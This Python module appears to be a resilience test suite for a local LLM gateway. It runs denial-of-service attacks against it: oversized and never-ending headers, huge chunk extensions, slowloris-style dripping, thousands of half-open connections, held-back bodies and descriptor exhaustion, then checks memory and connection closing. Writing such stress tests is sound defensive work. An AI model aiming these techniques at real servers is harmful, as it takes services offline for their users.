"""C2, M1: what comes before a request is one. Nobody needs a key for it: heads that never end, connections that say
nothing, bodies that stop short."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
import time
from collections.abc import Callable, Iterable, Iterator

from abuse.attack import Attack, Bounds, Target
from abuse.kit.stage import ATTACKER, Shape
from abuse.kit.tokens import HOLD
from abuse.kit.wire import push, read_answer

MUCH = 52_000_000
CLOSED_S = 20.0
HEAD_S = 30.0
"""By then a connection without a whole head is closed."""
_RESET = ("reset", "cut off", "untyped 400", "untyped 408", "untyped 413", "untyped 414", "untyped 431")
_REQUEST = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n"
_OPENED_AT_ONCE = 64
_KEPT_OPEN_S = 20.0


def _pieces(piece: bytes, size: int) -> Iterator[bytes]:
    return itertools.repeat(piece, size // len(piece))


async def send_raw(target: Target, pieces: Iterable[bytes], *, wait_s: float = CLOSED_S, ends: bool = False) -> None:
    """On one connection: everything, also after an answer. If it ``ends``, the server has to answer or close."""
    async with target.dialer(None).socket() as sock:
        sending = asyncio.create_task(push(sock, pieces))
        try:
            async with asyncio.timeout(wait_s):
                target.answers.note(await read_answer(sock))
                await sending
                await _until_closed(sock)
        except TimeoutError:
            target.check(bool(target.answers.kinds) or not ends, f"neither answered nor closed after {wait_s:g} s")
        except OSError:
            target.answers.kinds["reset"] += 1
        finally:
            sending.cancel()
    target.found["MiB then"] = round(target.stage.rss_mib())


async def _until_closed(sock: socket.socket) -> None:
    async with asyncio.timeout(2):
        while await asyncio.get_running_loop().sock_recv(sock, 1 << 16):
            pass


def raw(name: str, pieces: Callable[[bytes], Iterable[bytes]], *, keyed: bool = False) -> Attack:
    """``pieces`` gets a head without its end; with a key where it is ``keyed``."""

    async def run(target: Target) -> None:
        key = target.stage.secrets[ATTACKER].encode() if keyed else b""
        head = _REQUEST + (b"Authorization: Bearer " + key + b"\r\n" if keyed else b"")
        await send_raw(target, pieces(head), ends=True, wait_s=CLOSED_S if not keyed else 6)

    return Attack(name=name, finding="C2", run=run, bounds=Bounds(peak=300, kept=100, also=_RESET))


_CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
RAW = [
    raw("head: 52 MB of lines", lambda head: [head, *_pieces(b"a:b\r\n" * 10_000, MUCH)]),
    raw("head: a name of 50 MB", lambda head: [head, *_pieces(b"a" * 65_536, MUCH)]),
    raw("head: a value of 50 MB", lambda head: [head + b"a: ", *_pieces(b"b" * 65_536, MUCH)]),
    raw("head: folded lines", lambda head: [head + b"a: b\r\n", *_pieces(b" c\r\n" * 10_000, MUCH)]),
    raw("head: a path of 50 MB", lambda _: [b"GET /", *_pieces(b"x" * 65_536, MUCH)]),
    raw("head: a query of 50 MB", lambda _: [b"GET /health?", *_pieces(b"x=y&" * 16_384, MUCH)]),
    raw("head: 50 MB of empty lines", lambda _: _pieces(b"\r\n" * 32_768, MUCH)),
    raw("head: a whole one of 4 MB", lambda head: [head, b"a: b\r\n" * 700_000, b"\r\n"]),
    raw(
        "chunk: an extension of 50 MB", lambda head: [head, _CHUNKED, b"1;", *_pieces(b"x" * 65_536, MUCH)], keyed=True
    ),
    raw("chunk: a size of 50 MB", lambda head: [head, _CHUNKED, *_pieces(b"0" * 65_536, MUCH)], keyed=True),
    raw(
        "chunk: 52 MB of trailers",
        lambda head: [head, _CHUNKED, b"0\r\n", *_pieces(b"a:b\r\n" * 9999, MUCH)],
        keyed=True,
    ),
]


async def pipelined(target: Target) -> None:
    """Requests in one go, and nobody reads the answers. With a key they are dear, without any number is cheap."""
    small = b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"
    dear = target.dialer().head("POST", "/v1/completions", {"Content-Length": "13"}) + b'{"prompt":[]}'

    async def press(piece: bytes) -> None:
        async with target.dialer().socket() as sock:
            sending = asyncio.create_task(push(sock, _pieces(piece * 100, MUCH)))
            await asyncio.wait([sending], timeout=8)
            sending.cancel()

    await asyncio.gather(*(press(piece) for piece in (small, dear) for _ in range(4)))


class Connections:
    """Many of them, held until the end of a block."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._open: list[socket.socket] = []
        self.refused = 0

    async def __aenter__(self) -> Connections:
        return self

    async def __aexit__(self, *_: object) -> None:
        for sock in self._open:
            sock.close()

    async def add(self, count: int, pieces: list[bytes]) -> None:
        """So many more, each sending ``pieces``; those that break meanwhile are counted."""
        places = asyncio.Semaphore(_OPENED_AT_ONCE)

        async def one() -> None:
            async with places:
                loop = asyncio.get_running_loop()
                try:
                    sock = socket.socket()
                    self._open.append(sock)
                    sock.setblocking(False)
                    async with asyncio.timeout(10):
                        await loop.sock_connect(sock, ("127.0.0.1", self._target.stage.port))
                        for piece in pieces:
                            await loop.sock_sendall(sock, piece)
                except (OSError, TimeoutError):
                    self.refused += 1

        await asyncio.gather(*(one() for _ in range(count)))

    async def say(self, piece: bytes) -> None:
        """To whoever still listens."""
        for sock in self._open:
            with contextlib.suppress(OSError):
                sock.send(piece)

    def left(self) -> int:
        """How many the server has not closed."""
        return sum(_is_open(sock) for sock in self._open)

    async def until_closed(self, seconds: float, share: float = 0.1) -> float:
        """Seconds until no more than ``share`` of them are left; notes how many that is."""
        began = time.monotonic()
        while (left := self.left()) > share * len(self._open) and time.monotonic() < began + seconds:
            await asyncio.sleep(0.25)
        self._target.found["open at the end"] = left
        self._target.found["closed after"] = f"{time.monotonic() - began:.0f} s"
        self._target.check(left <= share * len(self._open), f"{left} connections are open after {seconds:g} s")
        return time.monotonic() - began


def _is_open(sock: socket.socket) -> bool:
    try:
        while piece := sock.recv(4096):
            del piece
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


async def half_open(target: Target) -> None:
    """3,000: half with half a head, half without a byte."""
    async with Connections(target) as connections:
        await connections.add(1500, [_REQUEST])
        await connections.add(1500, [])
        await connections.until_closed(HEAD_S)


async def dripping(target: Target) -> None:
    """1,000 heads and 500 bodies, a byte a second."""
    async with Connections(target) as connections:
        await connections.add(1000, [_REQUEST + b"x-slow: "])
        await connections.add(500, [target.dialer().head("POST", "/v1/completions", {"Content-Length": "90000"})])
        end = time.monotonic() + _KEPT_OPEN_S
        while time.monotonic() < end:
            await connections.say(b" ")
            await asyncio.sleep(1)
        target.found["open then"] = connections.left()


async def full_heads(target: Target) -> None:
    """2,000 heads of 60 KB each, none of them whole."""
    async with Connections(target) as connections:
        await connections.add(1000, [_REQUEST + b"a: " + b"b" * 60_000])
        await connections.add(1000, [_REQUEST + b"a:b\r\n" * 12_000])
        target.found["MiB then"] = round(target.stage.rss_mib())
        await asyncio.sleep(3)


async def sent_ahead(target: Target) -> None:
    """400 connections whose first request waits, with four more and their bodies behind it in one go."""
    waits = target.dialer().request("/v1/completions", {"prompt": [HOLD, 7], "stream": True, "max_tokens": 5})
    ahead = target.dialer().request("/v1/completions", b" " * 61_000)
    async with Connections(target) as connections:
        for _ in range(4):
            await connections.add(100, [waits])
        await asyncio.sleep(2)
        before = target.stage.rss_mib()
        await connections.say(ahead * 4)
        await asyncio.sleep(3)
        grown = target.stage.rss_mib() - before
        target.found["MiB more then"] = round(grown)
        target.check(grown < 60, f"the gateway took {grown:.0f} MiB of what was sent ahead")


async def held_bodies(target: Target) -> None:
    """300 bodies of 4 MB but for the last byte: each within the limit, together more than the gateway has."""
    head = target.dialer().head("POST", "/v1/completions", {"Content-Length": "4190000"})
    async with Connections(target) as connections:
        await connections.add(300, [head, b" " * 4_189_999])
        target.found["MiB then"] = round(target.stage.rss_mib())
        target.found["refused"] = connections.refused
        await asyncio.sleep(2)


async def nobodys_bodies(target: Target) -> None:
    """200 bodies of 4 MB without a key."""
    head = target.dialer(None).head("POST", "/v1/completions", {"Content-Length": "4190000"})
    async with Connections(target) as connections:
        await connections.add(200, [head, b" " * 4_189_999])
        target.found["MiB then"] = round(target.stage.rss_mib())
        await asyncio.sleep(1)


async def few_files(target: Target) -> None:
    """More connections than the process may have descriptors: probes are answered all the same."""
    async with Connections(target) as connections:
        await connections.add(600, [_REQUEST])
        await asyncio.sleep(8)
        target.found["open then"] = connections.left()


async def other_protocols(target: Target) -> None:
    """What is not HTTP/1.1."""
    hello = bytes.fromhex("16030100f6010000f20303") + b"\0" * 200
    upgrade = b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
    for said in (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", hello, upgrade, b"\0" * 100_000, b"GET / HTTP/0.9\r\n\r\n"):
        await send_raw(target, [said], wait_s=2)
    target.answers.kinds.clear()


async def pages(target: Target) -> None:
    """Pages that need no key, and keys that nobody has: 3,000 requests as fast as they are taken."""
    paths = ["/metrics", "/ready", "/health", "/openapi.json", "/v1/models", "/docs", "/x" * 200]
    places = asyncio.Semaphore(100)

    async def one(number: int) -> None:
        async with places:
            headers = {"Authorization": f"Bearer wrong-{number}", "X-Request-Id": "x" * 4000}
            target.answers.note(await target.dialer(None).get(paths[number % len(paths)], headers))

    await asyncio.gather(*(one(number) for number in range(3000)))


_MANY = Bounds(peak=400, kept=150, also=_RESET, within=90)
ATTACKS = [
    *RAW,
    Attack(name="requests: pipelined and not read", finding="C2", run=pipelined, bounds=_MANY),
    Attack(name="connections: 3,000 half-open", finding="M1", run=half_open, bounds=_MANY),
    Attack(name="connections: 1,500 a byte a second", finding="own", run=dripping, bounds=_MANY),
    Attack(name="connections: 2,000 full heads", finding="own", run=full_heads, bounds=_MANY),
    Attack(name="bodies: 300 held back", finding="own", run=held_bodies, bounds=Bounds(peak=600, also=_RESET)),
    Attack(name="bodies: 200 without a key", finding="own", run=nobodys_bodies, bounds=_MANY),
    Attack(
        name="connections: more than descriptors",
        finding="M1",
        run=few_files,
        bounds=_MANY,
        shape=Shape(nofile=300, short=False),
        alone=True,
    ),
    Attack(name="requests: bodies sent ahead", finding="own", run=sent_ahead, bounds=_MANY),
    Attack(name="connections: other protocols", finding="own", run=other_protocols, bounds=_MANY),
    Attack(name="pages: 3,000 at once", finding="own", run=pages, bounds=Bounds(peak=400, served=1000, within=90)),
]
